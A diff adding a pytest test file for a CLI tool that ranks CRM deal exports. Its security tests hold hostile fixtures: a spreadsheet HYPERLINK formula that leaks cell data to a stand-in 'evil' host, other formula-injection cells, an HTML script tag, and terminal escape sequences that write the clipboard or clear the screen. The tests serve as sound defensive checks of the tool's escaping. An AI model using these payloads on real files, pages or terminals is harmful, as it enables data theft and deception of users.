@@ -1,0 +1,278 @@
+"""``rank`` on exports as CRMs write them: the manager's columns kept, real-world cells read,
+warnings after the output, the chart, html, safe CSV, and flat memory on wide notes."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from dealrescue.cli.app import app
+from tests.crm_exports import hubspot_export, open_deals_export, salesforce_export
+
+runner = CliRunner()
+DEALRESCUE = [sys.executable, "-m", "dealrescue"]
+
+
+def invoke(*args: object):  # type: ignore[no-untyped-def]
+    """rank with the pulse playbook these exports answer (unless the test names one)."""
+    names = [str(a) for a in args]
+    if names[:1] == ["rank"] and "--playbook" not in names and "-p" not in names:
+        names += ["--playbook", "pulse"]
+    return runner.invoke(app, names)
+
+
+def rows_of(stdout: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(stdout)))
+
+
+@pytest.fixture
+def salesforce(tmp_path: Path) -> Path:
+    path = tmp_path / "salesforce.csv"
+    salesforce_export(path, 30, seed=3, notes_bytes=1 << 20)
+    return path
+
+
+@pytest.fixture
+def hubspot(tmp_path: Path) -> Path:
+    path = tmp_path / "hubspot.csv"
+    hubspot_export(path, 30, seed=4)
+    return path
+
+
+def test_salesforce_export_ranks_every_account_and_keeps_the_managers_columns(salesforce: Path) -> None:
+    result = invoke("rank", salesforce, "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    rows = rows_of(result.stdout)
+    assert len(rows) == 30
+    for column in ("Opportunity Owner", "Stage", "Amount", "Close Date", "Description", "amount_at_risk"):
+        assert column in rows[0]
+    limit = csv.field_size_limit(1 << 24)
+    with salesforce.open(encoding="utf-8", newline="") as handle:
+        source = {r["Account Name"]: r for r in csv.DictReader(handle)}
+    csv.field_size_limit(limit)
+    for row in rows:
+        assert row["Opportunity Owner"] == source[row["deal"]]["Opportunity Owner"]
+        assert row["Amount"] == source[row["deal"]]["Amount"]
+    # The 1 MB description is over the CSV module's limit: skipped with a warning, the account still ranked.
+    assert result.stderr.splitlines() == [
+        f"warning: {salesforce}:2: column Description: a cell of 1,048,576 characters, over the 131,072 a CSV "
+        "cell may hold: skipped",
+        f"{salesforce}: 1 cell ignored (the rows are still ranked)",
+    ]
+
+
+def test_hubspot_export_values_in_other_case_labels_and_separators_read_without_a_warning(hubspot: Path) -> None:
+    result = invoke("rank", hubspot, "--format", "json")
+    assert result.exit_code == 0, result.stderr
+    assert result.stderr == ""
+    doc = json.loads(result.stdout)
+    assert len(doc["rows"]) == 30 and doc["ignored_cells"] == [] and doc["bad_rows"] == []
+    first = doc["rows"][0]
+    assert first["columns"]["Deal owner"] and isinstance(first["amount"], float)
+
+
+def test_real_world_cells_read_as_answers(tmp_path: Path) -> None:
+    path = tmp_path / "cells.csv"
+    path.write_text(
+        "Account Name,Signals,Pulse,Asked Loss Question,Calling High,Competitor Knocking,Knows Their Fear,Renewal\n"
+        "Plain,looking_at_options,3,no,no,yes,no,2027-03-31\n"
+        "Spelled,Looking at options,3,FALSE,NO,Yes,N,3/31/2027\n"
+        "Labels,They have mentioned; even in passing; looking at other options,3,0,No,YES,,2027-03-31 00:00:00\n",
+        encoding="utf-8",
+    )
+    result = invoke("rank", path, "--format", "csv")
+    assert result.stderr.splitlines()[0].startswith(f"warning: {path}:4: column Signals:")
+    rows = {r["deal"]: r for r in rows_of(result.stdout)}
+    assert rows["Spelled"]["step"] == rows["Plain"]["step"] and rows["Spelled"]["risk"] == rows["Plain"]["risk"]
+    assert rows["Spelled"]["reasons"] == rows["Plain"]["reasons"]
+
+
+def test_dates_that_read_only_day_first_say_so_and_dayfirst_reads_them(tmp_path: Path, write_playbook) -> None:  # type: ignore[no-untyped-def]
+    playbook = write_playbook(textwrap.dedent("""\
+        id: dated
+        version: 1
+        title: Dated
+        summary: A date that counts.
+        questions:
+          - {id: renewal, prompt: Renewal?, type: date, required: false}
+        scores:
+          - id: risk
+            title: Risk
+            rules:
+              - {when: 'renewal is not none and renewal < "2027-01-01"', points: 1, label: Renews soon}
+        verdicts:
+          - {id: fine, default: true, title: Fine, rationale: ok}
+        """))
+    path = tmp_path / "dates.csv"
+    path.write_text("deal,renewal\nUS,12/31/2026\nEurope,31/12/2026\nDots,31.12.2026\nLater,1/2/2027\n", encoding="utf-8")
+    us = invoke("rank", path, "-p", playbook, "--format", "csv")
+    assert us.exit_code == 0
+    assert f"warning: {path}:3: column renewal: '31/12/2026' reads only as day first: rank the file with --dayfirst" in us.stderr
+    assert {r["deal"]: r["risk"] for r in rows_of(us.stdout)} == {"US": "1", "Europe": "0", "Dots": "0", "Later": "0"}
+    dayfirst = invoke("rank", path, "-p", playbook, "--format", "csv", "--dayfirst")
+    assert "'12/31/2026' reads only as month first: drop --dayfirst" in dayfirst.stderr
+    assert {r["deal"]: r["risk"] for r in rows_of(dayfirst.stdout)} == {"US": "0", "Europe": "1", "Dots": "1", "Later": "0"}
+
+
+def test_a_cell_that_fits_two_choices_or_mixes_separators_is_an_error_naming_it(tmp_path: Path, write_playbook) -> None:  # type: ignore[no-untyped-def]
+    playbook = write_playbook(textwrap.dedent("""\
+        id: twins
+        version: 1
+        title: Twins
+        summary: Two choices one cell could mean.
+        questions:
+          - id: status
+            prompt: Status?
+            type: select
+            required: false
+            choices:
+              - {value: not_yet, label: Pending, points: {risk: 1}}
+              - {value: pending, label: Not yet, points: {risk: 2}}
+          - id: tags
+            prompt: Tags?
+            type: multiselect
+            required: false
+            choices:
+              - {value: a, label: A, points: {risk: 1}}
+              - {value: b, label: B, points: {risk: 1}}
+        scores:
+          - {id: risk, title: Risk}
+        verdicts:
+          - {id: fine, default: true, title: Fine, rationale: ok}
+        """))
+    path = tmp_path / "twins.csv"
+    path.write_text("deal,status,tags\nOne,not yet,a;b|a\nTwo,not_yet,a|b\n", encoding="utf-8")
+    result = invoke("rank", path, "-p", playbook, "--format", "csv")
+    assert result.exit_code == 0
+    lines = result.stderr.splitlines()
+    assert f"warning: {path}:2: column status: 'not yet' fits more than one choice: not_yet, pending; write the value" in lines
+    assert f"warning: {path}:2: column tags: 'a;b|a' mixes ; and | between choices: use one of them" in lines
+    assert {r["deal"]: r["risk"] for r in rows_of(result.stdout)} == {"One": "0", "Two": "3"}
+
+
+def test_reasons_never_contradict_one_question_gives_one_reason(tmp_path: Path) -> None:
+    path = tmp_path / "four.csv"
+    path.write_text("deal,pulse\nFour,4\n", encoding="utf-8")
+    reasons = rows_of(invoke("rank", path, "--format", "csv").stdout)[0]["reasons"]
+    assert ("Pulse of 4 or less" in reasons) != ("Pulse of 4 to 6" in reasons)
+
+
+def test_by_amount_weights_the_first_score_by_the_amount(tmp_path: Path) -> None:
+    path = tmp_path / "money.csv"
+    path.write_text(
+        "Deal Name,Amount (USD),signals\nSmall risky,\"$1,000\",announced\nBig watch,\"$900,000.00\",tip_of_iceberg\n"
+        "Blank,,announced\nOdd,12 apples,announced\n",
+        encoding="utf-8",
+    )
+    plain = [r["deal"] for r in rows_of(invoke("rank", path).stdout)]
+    assert plain[-1] == "Big watch"
+    weighted = invoke("rank", path, "--by", "amount")
+    assert [r["deal"] for r in rows_of(weighted.stdout)][0] == "Big watch"
+    assert f"warning: {path}:5: column Amount (USD): '12 apples' is not an amount; amount ignored" in weighted.stderr
+    at_risk = {r["deal"]: r["amount_at_risk"] for r in rows_of(weighted.stdout)}
+    assert at_risk["Big watch"] == "900000" and at_risk["Small risky"] == "1000"
+    named = invoke("rank", path, "--amount", "nope")
+    assert named.exit_code == 2 and "--amount 'nope'" in named.stderr
+    no_amount = tmp_path / "plain.csv"
+    no_amount.write_text("deal,pulse\nA,3\n", encoding="utf-8")
+    assert "--by amount: the file has no amount column" in invoke("rank", no_amount, "--by", "amount").stderr
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_raw_keeps_them(tmp_path: Path) -> None:
+    path = tmp_path / "evil.csv"
+    path.write_text(
+        'deal,Notes,Amount\n"=HYPERLINK(""http://evil/?""&A1,""x"")",@SUM(A1),-500\n+cmd,"\tTab",12\n-minus,-3,7\n',
+        encoding="utf-8",
+    )
+    safe = rows_of(invoke("rank", path, "--format", "csv").stdout)
+    deals = {r["deal"] for r in safe}
+    assert deals == {"'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+cmd", "'-minus"}
+    notes = {r["Notes"] for r in safe}
+    assert notes == {"'@SUM(A1)", "'\tTab", "-3"}  # a plain number is no formula
+    assert {r["Amount"] for r in safe} == {"-500", "12", "7"}
+    raw = rows_of(invoke("rank", path, "--format", "csv", "--raw").stdout)
+    assert {r["deal"] for r in raw} == {'=HYPERLINK("http://evil/?"&A1,"x")', "+cmd", "-minus"}
+
+
+def test_html_is_one_self_contained_page_with_the_table_and_the_chart(salesforce: Path, tmp_path: Path) -> None:
+    evil = tmp_path / "evil.csv"
+    evil.write_text('deal,signals\n"<script>alert(1)</script>",announced\n', encoding="utf-8")
+    result = invoke("rank", evil, "--format", "html")
+    assert result.exit_code == 0
+    assert "<script>" not in result.stdout and "&lt;script&gt;" in result.stdout
+    out = tmp_path / "report.html"
+    assert invoke("rank", salesforce, "--format", "html", "-o", out).exit_code == 0
+    page = out.read_text(encoding="utf-8")
+    assert page.startswith("<!doctype html>") and page.rstrip().endswith("</html>")
+    for outside in ("http://", "https://", " src=", " href=", "<script", "@import", "url("):
+        assert outside not in page
+    assert page.count("<tr><td>") == 30 + 5  # 30 accounts, 5 bands of the chart
+    assert "Step 4: deciding to defect" in page and "Opportunity Owner" not in page and "Owner" in page
+
+
+def test_the_table_is_one_line_per_account_then_the_chart_and_warnings_come_after(salesforce: Path) -> None:
+    env = {**os.environ, "COLUMNS": "100"}
+    result = subprocess.run([*DEALRESCUE, "rank", str(salesforce), "-p", "pulse", "--format", "table", "--top", "5"],
+                            capture_output=False, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
+                            env=env, check=False)
+    assert result.returncode == 0
+    lines = result.stdout.splitlines()
+    assert lines[0] == "Account pulse: 30 ranked by step on the defection path, highest first"
+    assert lines[1].split() [:5] == ["#", "Deal", "Owner", "Amount", "Step"]
+    assert [line.split()[0] for line in lines[2:7]] == ["1", "2", "3", "4", "5"]
+    assert lines[7] == "… 25 more (--top 30 shows all; --format csv or json writes every column)"
+    assert all(len(line) <= 100 for line in lines[:8])
+    chart = lines.index("Step on the defection path by band")
+    assert chart > 7 and "█" in lines[chart + 1]
+    warning = next(n for n, line in enumerate(lines) if line.startswith("warning:"))
+    assert warning > chart
+
+
+def test_explain_columns_says_what_feeds_what(salesforce: Path) -> None:
+    result = invoke("rank", salesforce, "--explain-columns")
+    assert result.exit_code == 0
+    lines = result.stdout.splitlines()
+    assert lines[0] == "'Account Name': the deal name"
+    assert "'Calling High': question calling_high" in lines
+    assert "'Amount': the amount (shown and passed through)" in lines
+    assert "'Description': passed through (no question reads it)" in lines
+    assert "(no column) question competitor: every row takes no answer" in lines
+
+
+@pytest.mark.pty
+def test_csv_on_a_terminal_shows_escape_sequences_instead_of_running_them(tmp_path: Path) -> None:
+    pexpect = pytest.importorskip("pexpect")
+    path = tmp_path / "esc.csv"
+    path.write_text('deal,Notes\n"Evil\x1b]52;c;SGVsbG8=\x07",\x1b[2J\u202e\n', encoding="utf-8")
+    child = pexpect.spawn(sys.executable, ["-m", "dealrescue", "rank", str(path), "-p", "pulse", "--format", "csv"],
+                          encoding="utf-8", timeout=60)
+    child.expect(pexpect.EOF)
+    screen = child.before
+    assert "\x1b]52" not in screen and "\x1b[2J" not in screen
+    assert "Evil\u241b]52" in screen
+
+
+def test_open_deals_rank_by_qualify_by_default_with_reasons_per_row(tmp_path: Path) -> None:
+    path = tmp_path / "open-deals.csv"
+    open_deals_export(path, 30, seed=7)
+    result = runner.invoke(app, ["rank", str(path), "--format", "csv"])
+    assert result.exit_code == 0, result.stderr
+    assert result.stderr == ""
+    rows = rows_of(result.stdout)
+    assert len(rows) == 30
+    scores = [float(r["qualification"]) for r in rows]
+    assert scores == sorted(scores, reverse=True) and scores[0] > scores[-1]
+    assert all(r["deal"].startswith(r["Account Name"] + " - ") for r in rows)  # the opportunity is the row
+    assert sum(1 for r in rows if r["reasons"]) >= 28
+    assert {r["verdict"] for r in rows} <= {"qualified", "at_risk", "disqualify"}
+    table = runner.invoke(app, ["rank", str(path), "--format", "table", "--top", "3"])
+    assert table.stdout.splitlines()[0].startswith("Deal qualification (MEDDPICC): 30 ranked by qualification")
